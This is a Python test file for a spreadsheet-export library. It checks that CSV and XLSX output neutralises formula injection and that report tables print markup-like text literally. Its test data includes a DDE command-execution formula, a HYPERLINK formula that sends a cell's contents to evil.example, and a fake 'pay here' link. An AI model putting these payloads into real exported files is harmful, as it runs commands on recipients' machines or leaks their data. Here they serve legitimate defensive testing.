"""Cells a spreadsheet cannot run: CSV escaping is reversible and unambiguous, XLSX text is text."""

from __future__ import annotations

from pathlib import Path

import polars as pl
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from rich.console import Console

from dunmore.cells import FORMULA_STARTS, csv_safe, escape_text, unescape_text, unescaped, xlsx_row
from dunmore.reports.render import rich_table

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"发票")', "+1+1", "-2+3", "@SUM(1)"]
texts = st.text(alphabet=st.sampled_from("=+-@'\t\r\n a中") | st.characters(exclude_categories=["Cs"]))


def test_a_formula_start_or_a_leading_apostrophe_gets_one_apostrophe_and_other_text_none() -> None:
    assert [escape_text(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert escape_text("\t=1") == "'\t=1"
    assert escape_text("\r=1") == "'\r=1"
    assert escape_text("'=1") == "''=1"
    assert escape_text("''") == "'''"
    assert [escape_text(t) for t in ("上海甲公司", "O'Brien Ltd", "a=b", "")] == [
        "上海甲公司",
        "O'Brien Ltd",
        "a=b",
        "",
    ]


def test_reading_removes_only_the_apostrophe_an_export_adds() -> None:
    assert unescape_text("'=1") == "=1"
    assert unescape_text("''=1") == "'=1"
    assert unescape_text("'abc") == "'abc"  # not an escape: a text that starts with an apostrophe
    assert unescape_text("'") == "'"


@given(texts)
def test_escaping_is_undone_exactly_and_never_starts_a_formula(text: str) -> None:
    cell = escape_text(text)
    assert unescape_text(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


@given(st.lists(texts, max_size=20))
def test_the_frame_escaping_agrees_with_the_text_escaping(values: list[str]) -> None:
    frame = pl.DataFrame({"name": values}, schema={"name": pl.String})
    safe = csv_safe(frame)
    assert safe["name"].to_list() == [escape_text(v) for v in values]
    assert safe.select(unescaped("name"))["name"].to_list() == values


def test_amounts_are_numbers_and_keep_their_sign() -> None:
    frame = pl.DataFrame({"name": ["-Acme"], "amount": ["-5.00"], "count": [-3]})
    safe = csv_safe(frame, numbers=["amount"])
    assert safe.row(0) == ("'-Acme", "-5.00", -3)


def test_xlsx_text_cells_are_strings_even_when_they_look_like_formulas(tmp_path: Path) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*HOSTILE, -5, None]))
    book.save(tmp_path / "s.xlsx")
    row = next(load_workbook(tmp_path / "s.xlsx")["s"].iter_rows())
    assert [(cell.value, cell.data_type) for cell in row[: len(HOSTILE)]] == [(t, "s") for t in HOSTILE]
    assert (row[len(HOSTILE)].value, row[len(HOSTILE)].data_type) == (-5, "n")


def test_a_report_table_shows_a_name_that_looks_like_markup_as_it_is() -> None:
    frame = pl.DataFrame({"name": ["[link=https://evil.example]pay here[/link]"], "currency": ["CNY"]})
    console = Console(record=True, width=200)
    console.print(rich_table(frame, title="t", money=[]))
    assert "[link=https://evil.example]pay here[/link]" in console.export_text()
